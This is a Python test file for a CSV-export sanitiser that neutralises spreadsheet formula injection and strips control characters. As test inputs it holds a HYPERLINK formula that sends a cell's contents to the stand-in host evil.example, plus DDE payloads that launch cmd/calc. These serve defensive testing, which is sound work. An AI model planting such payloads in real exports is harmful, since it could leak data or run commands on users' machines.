"""A CSV cell a spreadsheet would run as a formula is written as text; control characters are dropped."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from partnerdesk.core.csv_safe import (
    FORMULA_TRIGGERS,
    control_character_problem,
    has_control_characters,
    neutralise,
    restore,
    safe_writer,
    strip_control_characters,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Open invoice")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("=1+1", "'=1+1"),
        ("-12.50", "'-12.50"),  # text, even when it looks like a number
        ("Contoso =1+1", "Contoso =1+1"),  # only the first character starts a formula
        ("Fabrikam, Inc.", "Fabrikam, Inc."),
        ("'quoted already", "'quoted already"),
        ("", ""),
    ],
)
def test_owasp_cases(cell, written):
    assert neutralise(cell) == written


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("Ring\x07 the bell", "Ring the bell"),
        ("\x1b[31mRed\x1b[0m", "[31mRed[0m"),
        ("NUL\x00here", "NULhere"),
        ("DEL\x7fhere", "DELhere"),
        ("C1\x85\x9bhere", "C1here"),
        ("\x07=1+1", "'=1+1"),  # stripping comes first, so a control character cannot hide a formula
        ("\x1b@SUM(A1)", "'@SUM(A1)"),
        ("two\nlines", "two\nlines"),
        ("a\ttab", "a\ttab"),
        ("café ☕ 東京", "café ☕ 東京"),
    ],
)
def test_control_characters_are_stripped(cell, written):
    assert neutralise(cell) == written


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (Decimal("-12.50"), "-12.50"),
        (Decimal("2592.58"), "2592.58"),
        (Decimal("1E+3"), "1000"),
        (-3, "-3"),
        (0, "0"),
        (None, ""),
        (True, "True"),
        (Decimal("-Infinity"), "'-Infinity"),
    ],
)
def test_numbers_the_product_writes_stay_numbers(cell, written):
    assert neutralise(cell) == written


def test_the_writer_neutralises_every_text_cell_and_keeps_amounts():
    out = io.StringIO()
    writer = safe_writer(out)
    writer.writerow(["customer", "amount"])
    writer.writerows([[HYPERLINK, Decimal("-72.02")], ["+cmd|' /C calc'!A0\x07", Decimal("2592.58")]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [
        ["customer", "amount"],
        ["'" + HYPERLINK, "-72.02"],
        ["'+cmd|' /C calc'!A0", "2592.58"],
    ]
    assert out.getvalue().count("\n") == 3 and "\r" not in out.getvalue()


def test_the_writer_takes_the_csv_modules_format_parameters():
    out = io.StringIO()
    safe_writer(out, delimiter=";", lineterminator="\r\n").writerow(["@a", "b"])
    assert out.getvalue() == "'@a;b\r\n"


@given(st.text())
def test_no_text_cell_ever_starts_a_formula_or_holds_a_stripped_control_character(text):
    cell = neutralise(text)
    assert not cell.startswith(FORMULA_TRIGGERS)
    assert not has_control_characters(cell.replace("\t", "").replace("\n", "").replace("\r", ""))


def test_names_with_any_control_character_are_recognised():
    assert has_control_characters("Contoso\x07")
    assert has_control_characters("Contoso\tLtd")
    assert has_control_characters("\x9b")
    assert not has_control_characters("Contoso Ltd — Sàrl")


@given(st.text().map(lambda text: strip_control_characters(text)))
def test_an_exported_cell_reads_back_as_the_text_it_was(text):
    # The one text that cannot round-trip: a quote before a formula character, which reads as our own prefix.
    assume(not (text.startswith("'") and text[1:].startswith(FORMULA_TRIGGERS)))
    assert restore(neutralise(text)) == text


def test_restore_drops_only_the_quote_neutralise_added():
    assert restore("'" + HYPERLINK) == HYPERLINK
    assert restore("'-12.50") == "-12.50"
    assert restore("'quoted already") == "'quoted already"
    assert restore("Contoso") == "Contoso"


def test_a_refusal_names_the_field_and_the_character():
    assert control_character_problem("Contoso", "companyName") is None
    assert control_character_problem("Contoso\x07", "companyName").startswith(
        "companyName must not contain line breaks, tabs or other control characters (found U+0007)")
    assert control_character_problem("two\nlines", "description", allow="\t\n\r") is None
    assert "U+001B" in control_character_problem("two\x1b", "description", allow="\t\n\r")

